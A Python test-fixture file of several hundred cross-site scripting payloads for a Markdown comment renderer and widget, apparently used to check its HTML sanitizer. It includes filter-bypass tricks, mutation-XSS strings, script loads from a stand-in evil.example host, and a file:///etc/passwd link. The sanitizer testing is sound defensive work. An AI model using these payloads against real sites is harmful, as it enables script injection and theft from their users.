"""Hostile comment text, author names and websites, grouped by the trick each one tries.

Every payload that could run calls ``alert()`` or sets ``window.__pwned``, so a browser test
can tell that it ran. The entries are written for Rejoinder's renderer (Markdown through
markdown-it, then an nh3 allow-list) and its widget (server HTML into a shadow root, everything
else as text); they are not a copy of any public list.
"""

from __future__ import annotations

NUL = "\x00"
RLO = "\u202e"
ZWSP = "\u200b"
ZWJ = "\u200d"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt >window.__pwned=3</sCrIpT >",
    "<script\n>alert(4)</script\n>",
    "<script\t type='text/javascript'>alert(5)</script>",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<<script>script>alert(7)<</script>/script>",
    "<script>alert(8)",
    "<script src=//evil.example/x.js></script>",
    "<script/src='data:text/javascript,alert(9)'></script>",
    "</p><script>alert(10)</script><p>",
    "text before <script>window.__pwned=11</script> text after",
    "<script>/*</script><script>*/alert(12)</script>",
    "<noscript><p title=\"</noscript><script>alert(13)</script>\">",
    "<textarea></textarea><script>alert(14)</script>",
    "<title></title><script>alert(15)</script>",
    "<!--<script>-->alert(16)<!--</script>-->",
    "<![CDATA[<script>alert(17)</script>]]>",
    "<script type=module>import('data:text/javascript,alert(18)')</script>",
    "<template><script>alert(19)</script></template>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(20)>",
    "<img src=x onerror='window.__pwned=21'>",
    "<IMG SRC=x OnErRoR=alert(22)>",
    "<img/src=x/onerror=alert(23)>",
    "<img src=x onerror\n=\nalert(24)>",
    "<body onload=alert(25)>",
    "<div onmouseover=\"alert(26)\">hover me</div>",
    "<p onclick=alert(27)>click</p>",
    "<a onfocus=alert(28) autofocus href=#>x</a>",
    "<input autofocus onfocus=alert(29)>",
    "<select autofocus onfocus=alert(30)></select>",
    "<textarea autofocus onfocus=alert(31)></textarea>",
    "<details open ontoggle=alert(32)>",
    "<video><source onerror=alert(33)></video>",
    "<audio src=x onerror=alert(34)>",
    "<iframe onload=alert(35)></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(36)</script>\"></iframe>",
    "<object data=x onerror=alert(37)></object>",
    "<embed src=x onload=alert(38)>",
    "<marquee onstart=alert(39)>news</marquee>",
    "<em onpointerenter=alert(40)>soft</em>",
    "<strong onanimationstart=alert(41) style=animation-name:x>loud</strong>",
    "<blockquote onmouseenter=alert(42)>quote</blockquote>",
    "<code oncopy=alert(43)>copy me</code>",
    "<pre onscroll=alert(44)>long</pre>",
    "<ul onclick=alert(45)><li onclick=alert(46)>item</li></ul>",
    "<ol start=1 onclick=alert(47)><li>one</li></ol>",
    "<del ondblclick=alert(48)>gone</del>",
    "<br onload=alert(49)>",
    "<form><button formaction=javascript:alert(50)>go</button></form>",
    "<form action=javascript:alert(51)><input type=submit></form>",
    "<isindex type=image src=1 onerror=alert(52)>",
    "<img src=x:alert(53) onerror=eval(src)>",
    "<a href=\"https://example.org\" onclick=\"alert(54)\">fine link</a>",
    "<img src=x onerror=&#97;lert(55)>",
    "<custom-tag onclick=alert(56)>custom</custom-tag>",
]

MARKDOWN_URLS = [
    "[click](javascript:alert(60))",
    "[click](JAVASCRIPT:alert(61))",
    "[click](  javascript:alert(62))",
    "[click](javascript&colon;alert(63))",
    "[click](javascript&#58;alert(64))",
    "[click](&#106;avascript:alert(65))",
    "[click](&#x6A;avascript:alert(66))",
    "[click](&#X6a;&#x61;vascript:alert(67))",
    "[click](%6Aavascript:alert(68))",
    "[click](java%0ascript:alert(69))",
    "[click](java\tscript:alert(70))",
    "[click](<java\nscript:alert(71)>)",
    "[click](java\\nscript:alert(72))",
    "[click](vbscript:msgbox(73))",
    "[click](VBScript:msgbox(74))",
    "[click](data:text/html,<script>alert(75)</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg3Nik8L3NjcmlwdD4=)",
    "[click](DATA:image/svg+xml,<svg onload=alert(77)>)",
    "[click](livescript:alert(78))",
    "[click](file:///etc/passwd)",
    "[click](jav&#x09;ascript:alert(79))",
    "[click](jav&#x0A;ascript:alert(80))",
    "[click](java" + NUL + "script:alert(81))",
    "[click](\x01javascript:alert(82))",
    "[click](javascript://%0aalert(83))",
    "[click](javascript://example.org/%0Aalert(84))",
    "[click](<javascript:alert(85)>)",
    "[click](//evil.example/\"onmouseover=\"alert(86))",
    "[click](https://ok.example \"title\\\" onmouseover=\\\"alert(87)\")",
    "[click](https://ok.example 'x\" onmouseover=\"alert(88)')",
    "[click](https://ok.example (\"><script>alert(89)</script>))",
    "[cl[ick](javascript:alert(90))](https://ok.example)",
    "[[nested]](javascript:alert(91))",
    "[x]( javascript:alert(92) \"t\")",
    "[x](jav\u0430script:alert(93))",
    "[x](javascript\uff1aalert(94))",
    "[x](" + ZWSP + "javascript:alert(95))",
    "[x](ja" + ZWJ + "vascript:alert(96))",
    "[x](\\javascript:alert(97))",
    "[x](https:javascript:alert(98))",
    "[x](mailto:a@b.example?body=<script>alert(99)</script>)",
    "[x](#\" onclick=\"alert(100))",
    "[x](?q=\"><img src=x onerror=alert(101)>)",
]

AUTOLINKS = [
    "<javascript:alert(110)>",
    "<JavaScript:alert(111)>",
    "<vbscript:msgbox(112)>",
    "<data:text/html,<script>alert(113)</script>>",
    "<https://ok.example/\"onmouseover=\"alert(114)>",
    "javascript:alert(115)",
    "www.example.org/\"onmouseover=\"alert(116)\"",
    "http://example.org/<script>alert(117)</script>",
    "https://example.org/?a=\"><svg onload=alert(118)>",
    "<mailto:x@example.org?subject=\"><script>alert(119)</script>>",
    "<x@example.org\" onclick=\"alert(120)>",
]

REFERENCE_LINKS = [
    "[a][r]\n\n[r]: javascript:alert(130)",
    "[a][r]\n\n[r]: <javascript:alert(131)>",
    "[a][r]\n\n[r]: https://ok.example \"x\\\" onmouseover=\\\"alert(132)\"",
    "[r]\n\n[r]: &#106;avascript:alert(133)",
    "[a][]\n\n[a]: data:text/html,<script>alert(134)</script>",
    "[a][r]\n\n[R]: VBSCRIPT:msgbox(135)",
    "[a][r]\n\n[r]:\n  javascript:alert(136)",
    "[a][r]\n[r]: java\tscript:alert(137) 'title'",
]

IMAGES = [
    "![x](javascript:alert(140))",
    "![x](x\" onerror=\"alert(141))",
    "![x\" onerror=\"alert(142)](https://ok.example/a.png)",
    "![x](https://ok.example/a.png \"t\\\" onload=\\\"alert(143)\")",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTQ0KT4=)",
    "[![x](https://ok.example/a.png)](javascript:alert(145))",
    "![x][i]\n\n[i]: javascript:alert(146)",
    "![<img src=x onerror=alert(147)>](https://ok.example/a.png)",
]

RAW_HTML = [
    "<div>\n<script>alert(150)</script>\n</div>",
    "<table><tr><td onclick=alert(151)>cell</td></tr></table>",
    "<a href=\"javascript:alert(152)\">raw link</a>",
    "<a href=\"jav&#x09;ascript:alert(153)\">raw link</a>",
    "<a href='  javascript:alert(154)'>raw</a>",
    "<a href=javascript&colon;alert(155)>raw</a>",
    "<a href=\"data:text/html,%3Cscript%3Ealert(156)%3C/script%3E\">raw</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(157)\">",
    "<base href=\"javascript:alert(158)//\">",
    "<link rel=import href=data:text/html,<script>alert(159)</script>>",
    "<object data=\"javascript:alert(160)\"></object>",
    "<embed src=\"javascript:alert(161)\">",
    "<iframe src=\"javascript:alert(162)\"></iframe>",
    "<frameset><frame src=javascript:alert(163)></frameset>",
    "<p>para</p\n><img src=x onerror=alert(164)>",
    "<!-- --!><img src=x onerror=alert(165)> -->",
    "<? ><img src=x onerror=alert(166)> ?>",
    "<a/href=javascript:alert(167)>slash</a>",
    "<a href=\"https://ok.example\" title='\"><img src=x onerror=alert(168)>'>t</a>",
    "<ol start=\"1\" reversed onmouseover=alert(169)><li>x</li></ol>",
    "<a href=\"http://ok.example\" target=_blank rel=opener>opener</a>",
]

SVG_MATHML = [
    "<svg><script>alert(170)</script></svg>",
    "<svg onload=alert(171)>",
    "<svg><animate onbegin=alert(172) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(173)\"><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(174)>",
    "<svg><foreignObject><img src=x onerror=alert(175)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(176)></style></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(177)'/></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(178)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(179)&gt;\">",
    "<math href=\"javascript:alert(180)\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(181)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(182)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(183)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(184)>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(185)>\"></svg>",
]

CSS = [
    "<p style=\"background:url(javascript:alert(190))\">css</p>",
    "<div style=\"width:expression(alert(191))\">ie</div>",
    "<style>@import 'javascript:alert(192)';</style>",
    "<style>*{background:url(\"javascript:alert(193)\")}</style>",
    "<style>body{behavior:url(x.htc)}</style>",
    "<em style=\"x:e\\xpression(alert(194))\">esc</em>",
    "<a href=https://ok.example style=\"position:fixed;inset:0;z-index:9999\">overlay</a>",
    "<style>.rj{display:none}</style>hide the widget",
    "<p style=\"-moz-binding:url(//evil.example/x.xml#y)\">moz</p>",
    "<link rel=stylesheet href=\"javascript:alert(195)\">",
]

ENCODING = [
    "&lt;script&gt;alert(200)&lt;/script&gt;",
    "&#60;script&#62;alert(201)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(202)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(203)%3C/script%3E",
    "<scr" + NUL + "ipt>alert(204)</scr" + NUL + "ipt>",
    "<img src=x o" + NUL + "nerror=alert(205)>",
    "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(206)\">",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058alert(207)\">long entities</a>",
    "[x](&#0000106avascript:alert(208))",
    "<\u0131mg src=x onerror=alert(209)>",
    "\ufe64script\ufe65alert(210)\ufe64/script\ufe65",
    "\uff1cscript\uff1ealert(211)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(212)+ADw-/script+AD4-",
    "<a href=\"java&#13;script:alert(213)\">cr</a>",
    "<img src=\"x\"` `onerror=alert(214)>",
]

MARKDOWN_TRICKS = [
    "`<a href=\"javascript:alert(220)\">in code</a>`",
    "```\n<script>alert(221)</script>\n```",
    "    <img src=x onerror=alert(222)>",
    "`` ` ``<img src=x onerror=alert(223)>",
    "> <script>alert(224)</script>",
    "- [x](javascript:alert(225))\n- <img src=x onerror=alert(226)>",
    "1. one\n2. <svg onload=alert(227)>",
    "*<img src=x onerror=alert(228)>*",
    "**[x](javascript:alert(229))**",
    "~~<script>alert(230)</script>~~",
    "[x](https://ok.example/`\"onmouseover=\"alert(231)`)",
    "[`code`](javascript:alert(232))",
    "[x](https://ok.example/)<!-- \"onmouseover=alert(233) -->",
    "\\<script>alert(234)\\</script>",
    "[x]: javascript:alert(235)\n\n[x]",
    "<https://ok.example>\"onmouseover=\"alert(236)",
    "[link](https://ok.example \"a\"b\" onmouseover=\"alert(237)\")",
    "# <img src=x onerror=alert(238)>",
    "Title\n===\n<script>alert(239)</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(240)> | x |",
]

UNICODE_TRICKS = [
    "[https://ok.example](javascript:alert(250))" + RLO,
    RLO + "[moc.elpmaxe//:sptth](javascript:alert(251))",
    "<sc" + ZWSP + "ript>alert(252)</script>",
    "<img" + ZWJ + " src=x onerror=alert(253)>",
    "[x](ja\u00advascript:alert(254))",
    "[x](\u2028javascript:alert(255))",
    "\u2066<img src=x onerror=alert(256)>\u2069",
    "<img src=x on\u200berror=alert(257)>",
]

QUOTE_BREAKERS = [
    "\"><script>alert(260)</script>",
    "'><img src=x onerror=alert(261)>",
    "\" onmouseover=\"alert(262)",
    "' onfocus='alert(263)' autofocus='",
    "</textarea><script>alert(264)</script>",
    "</style><script>alert(265)</script>",
    "</template><img src=x onerror=alert(266)>",
    "]]><script>alert(267)</script>",
    "\"></a><a href=\"javascript:alert(268)\">",
    "`-alert(269)-`",
]

TEMPLATES = [
    "{{constructor.constructor('alert(270)')()}}",
    "{{$on.constructor('window.__pwned=271')()}}",
    "${alert(272)}",
    "#{alert(273)}",
    "<%= alert(274) %>",
    "{{7*7}} [[7*7]] ${7*7}",
    "<div v-html=\"'<img src=x onerror=alert(275)>'\"></div>",
    "<x ng-app>{{constructor.constructor('alert(276)')()}}</x>",
    "{% raw %}<script>alert(277)</script>{% endraw %}",
]

COMMENT_TEXT: list[tuple[str, str]] = [
    (group, payload)
    for group, payloads in (
        ("script", SCRIPT_TAGS), ("event", EVENT_HANDLERS), ("md-url", MARKDOWN_URLS),
        ("autolink", AUTOLINKS), ("reference", REFERENCE_LINKS), ("image", IMAGES),
        ("raw-html", RAW_HTML), ("svg-math", SVG_MATHML), ("css", CSS),
        ("encoding", ENCODING), ("markdown", MARKDOWN_TRICKS), ("unicode", UNICODE_TRICKS),
        ("quote", QUOTE_BREAKERS), ("template", TEMPLATES),
    )
    for payload in payloads
]
"""Every comment-body payload, with the group it belongs to."""

WEBSITES = [
    "javascript:alert(300)",
    "JavaScript://ok.example/%0Aalert(301)",
    " javascript:alert(302)",
    "java\tscript:alert(303)",
    "vbscript:msgbox(304)",
    "data:text/html,<script>alert(305)</script>",
    "https://ok.example/\" onmouseover=\"alert(306)",
    "https://ok.example/'><script>alert(307)</script>",
    "http://ok.example/?<img src=x onerror=alert(308)>",
    "ok.example/\"><svg onload=alert(309)>",
    "//evil.example",
    "https:javascript:alert(310)",
    "https://javascript:alert(311)@ok.example",
    "&#106;avascript:alert(312)",
    "%6Aavascript:alert(313)",
    "javascript&colon;alert(314)",
    "http://" + RLO + "elpmaxe.ko",
    "feed:javascript:alert(315)",
]
"""Author website values: each must be refused (422) or shown only as an http(s) link."""
